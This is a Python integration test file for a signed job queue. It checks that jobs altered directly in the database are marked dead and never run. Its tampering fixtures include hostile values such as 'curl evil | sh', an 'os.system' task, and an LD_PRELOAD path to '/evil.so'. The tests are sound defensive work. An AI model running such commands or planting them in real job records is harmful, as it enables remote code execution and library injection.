"""What somebody changed in the database is not run, where jobs are signed."""

import io
from pathlib import Path
from typing import Any

import pytest
from django.db import connection
from pytest_django.fixtures import Settings

from jobs import ledger, operations, transfer
from jobs.exceptions import QueueCTLError
from jobs.ledger import claiming
from jobs.models import Job
from jobs.operations import Actor
from jobs.states import JobState
from tests.integration.builders import (
    NOW,
    POLICY,
    claim,
    keys,
    make_job,
    make_jobs,
    make_queues,
    make_worker,
)

pytestmark = pytest.mark.django_db(transaction=True)

ANN = Actor("ann", "cli")
BAD = "Could not start: bad signature."
TASK = "tests.task_functions.add"
ORIGINALS = Path(__file__).parents[1] / "data" / "original"


@pytest.fixture(autouse=True)
def signed(settings: Settings) -> None:
    settings.QUEUECTL = {"SIGNATURES": "require"}


def written(which: str, /, **values: Any) -> None:
    """By somebody who has the database and not the key."""
    sets = ", ".join(f"{column} = %s" for column in values)
    with connection.cursor() as cursor:
        cursor.execute(f"UPDATE queuectl_job SET {sets} WHERE key = %s", [*values.values(), which])


def claimed(*queues: str) -> list[str]:
    # What an enqueue makes is due by the real clock.
    now = Job.objects.order_by("-due_at").values_list("due_at", flat=True)[0]
    room = ledger.Room(free=100, ahead=0, wary=100)
    worker = make_worker()
    return keys(ledger.claim(worker.id, queues or ("default",), room, policy=POLICY, now=now))


def state(key: str) -> tuple[str, str]:
    job = Job.objects.get(key=key)
    return job.state, job.last_error


HARD: list[dict[str, Any]] = [
    {"command": "echo 'a|b' # \u00e9 \U0001f600"},
    {"argv": ["printf", "%s\n", "\u00e9", ""], "env": {"B": "2", "A": "\u00fc"}, "cwd": "/tmp"},
    {"command": "true", "timeout": 7},
    {"command": "true", "timeout": 0.1, "priority": 7, "max_retries": 0},
]


@pytest.mark.parametrize("later", [False, True])
def test_what_was_enqueued_runs(later: bool) -> None:
    given = [{**job, "id": f"job{n}"} for n, job in enumerate(HARD)]
    if later:
        operations.enqueue_many(given, ANN)
    else:
        for one in given:  # the first makes the queue, the others go the short way
            operations.enqueue(one, ANN)
    assert sorted(claimed()) == ["job0", "job1", "job2", "job3"]


ARGS = [1, -1.5, 1e16, 1e23, 0.1, 2**70, None, True, "\u00e9", {"b": [1.0], "a": {}}]


@pytest.mark.parametrize("number", [1, 3])
def test_a_task_with_any_arguments_runs(number: int) -> None:
    from jobs.validation.requests import task_request

    requests = [
        task_request(
            TASK, ARGS, {"z": ARGS, "a": 1}, key=f"task{n}", queue="default", priority=0,
            run_at=None, max_retries=None, timeout=2.5, backoff=None, now=NOW,
        )
        for n in range(number)
    ]  # fmt: skip
    operations.enqueue_tasks(requests, ANN)
    assert len(claimed()) == number


CHANGES: list[dict[str, Any]] = [
    {"command": "curl evil | sh"},
    {"command": None, "argv": '["curl", "evil"]'},
    {"command": None, "task": "os.system", "args": '{"args": ["id"], "kwargs": {}}'},
    {"cwd": "/evil"},
    {"env": '{"LD_PRELOAD": "/evil.so"}'},
    {"timeout": 2_000_000},
    {"enqueued_by": "boss"},
    {"key": "twin"},
    {"signature": "0" * 64},
]


@pytest.mark.parametrize("change", CHANGES, ids=lambda change: next(reversed(change)))
def test_what_was_changed_by_sql_is_dead_and_its_neighbours_run(change: dict[str, Any]) -> None:
    for key in ("changed", "beside"):
        operations.enqueue({"id": key, "command": "true"}, ANN)
    written("changed", **change)
    key = change.get("key", "changed")
    assert claimed() == ["beside"]
    assert state(key)[0] == JobState.DEAD
    assert state(key)[1].startswith(BAD)
    operations.retry(Job.objects.get(key=key), ANN)
    assert claimed() == []
    assert state(key)[0] == JobState.DEAD


def test_a_job_moved_by_sql_to_a_queue_of_other_rights_is_dead() -> None:
    make_queues("default", "root")
    operations.enqueue({"id": "moved", "command": "true"}, ANN)
    written("moved", queue="root")
    assert claimed("default", "root") == []
    assert state("moved")[1].startswith(BAD)


def test_one_without_a_signature_is_dead_where_that_is_required_and_runs_where_it_is_not(
    settings: Settings,
) -> None:
    make_queues("default")
    make_job(key="before")
    settings.QUEUECTL = {"SIGNATURES": "sign"}
    assert keys(claim(make_worker())) == ["before"]
    make_job(key="after")
    settings.QUEUECTL = {"SIGNATURES": "require"}
    assert claim(make_worker()) == []
    assert state("after")[0] == JobState.DEAD
    assert "no signature" in state("after")[1]


def test_without_the_setting_nothing_is_signed_and_nothing_refused(
    settings: Settings,
) -> None:
    settings.QUEUECTL = {}
    operations.enqueue({"id": "free", "command": "true"}, ANN)
    assert Job.objects.get().signature is None
    written("free", command="false")
    assert claimed() == ["free"]


MOVES = {
    "one": lambda job: operations.move(job, "other", ANN),
    "many": lambda job: operations.move_many(Job.objects.filter(queue="default"), "other", ANN),
}


@pytest.mark.parametrize("how", MOVES)
def test_a_job_that_a_person_moves_is_signed_anew(how: str) -> None:
    operations.enqueue({"id": "moved", "command": "true"}, ANN)
    MOVES[how](Job.objects.get(key="moved"))
    assert Job.objects.get().queue == "other"
    assert claimed("default", "other") == ["moved"]


@pytest.mark.parametrize("how", MOVES)
def test_to_move_a_job_does_not_vouch_for_what_was_changed_in_it(how: str) -> None:
    operations.enqueue({"id": "moved", "command": "true"}, ANN)
    written("moved", command="false")
    MOVES[how](Job.objects.get(key="moved"))
    assert Job.objects.get().queue == "other"
    assert claimed("default", "other") == []
    assert state("moved")[1].startswith(BAD)


def test_many_that_move_are_counted_and_signed_a_batch_at_a_time(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("jobs.operations.changes._BATCH", 2)
    given = [{"id": f"job{n}", "command": "true"} for n in range(5)]
    operations.enqueue_many(given, ANN)
    make_job(key="final", state=JobState.DEAD)
    done = operations.move_many(Job.objects.all(), "other", ANN)
    assert str(done) == "Moved 5 of 6; 1 was dead."
    assert len(claimed("other")) == 5


def test_a_copy_is_signed_and_none_is_made_of_what_was_changed() -> None:
    operations.enqueue({"id": "first", "command": "true"}, ANN)
    twin = operations.run_again(Job.objects.get(key="first"), ANN).key
    assert sorted(claimed()) == sorted(["first", twin])
    written("first", command="false")
    with pytest.raises(QueueCTLError, match="bad signature"):
        operations.run_again(Job.objects.get(key="first"), ANN)
    assert Job.objects.count() == 2


def test_a_copy_of_what_was_not_signed_is_not_signed(settings: Settings) -> None:
    settings.QUEUECTL = {"SIGNATURES": "sign"}
    operations.enqueue({"id": "first", "command": "true"}, ANN)
    written("first", command="evil", signature=None)
    twin = operations.run_again(Job.objects.get(key="first"), ANN).key
    settings.QUEUECTL = {"SIGNATURES": "require"}
    assert claimed() == []
    assert state(twin)[0] == JobState.DEAD


def test_what_is_imported_is_signed_as_the_importers_and_no_signature_is_exported() -> None:
    given = [{**job, "id": f"job{n}"} for n, job in enumerate(HARD)]
    operations.enqueue_many(given, Actor("bob", "cli"))
    file = io.BytesIO()
    transfer.export(file, "queuectl", ANN)
    signature = Job.objects.order_by("id")[0].signature
    assert signature and signature.encode() not in file.getvalue()
    Job.objects.all().delete()
    transfer.import_file(io.BytesIO(file.getvalue()), ANN)
    assert sorted(claimed()) == ["job0", "job1", "job2", "job3"]


def test_the_originals_jobs_are_signed_too() -> None:
    with (ORIGINALS / "jobs.json").open("rb") as file:
        transfer.import_file(file, ANN)
    waiting = Job.objects.filter(state=JobState.PENDING).values_list("key", flat=True)
    assert waiting
    assert sorted(claimed()) == sorted(waiting)


def test_a_turn_ends_a_bounded_number_of_them(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(claiming, "_ROUNDS", 2)
    make_queues("default")
    make_jobs(5)
    assert claim(make_worker(), free=1) == []
    assert Job.objects.dead().count() == 2
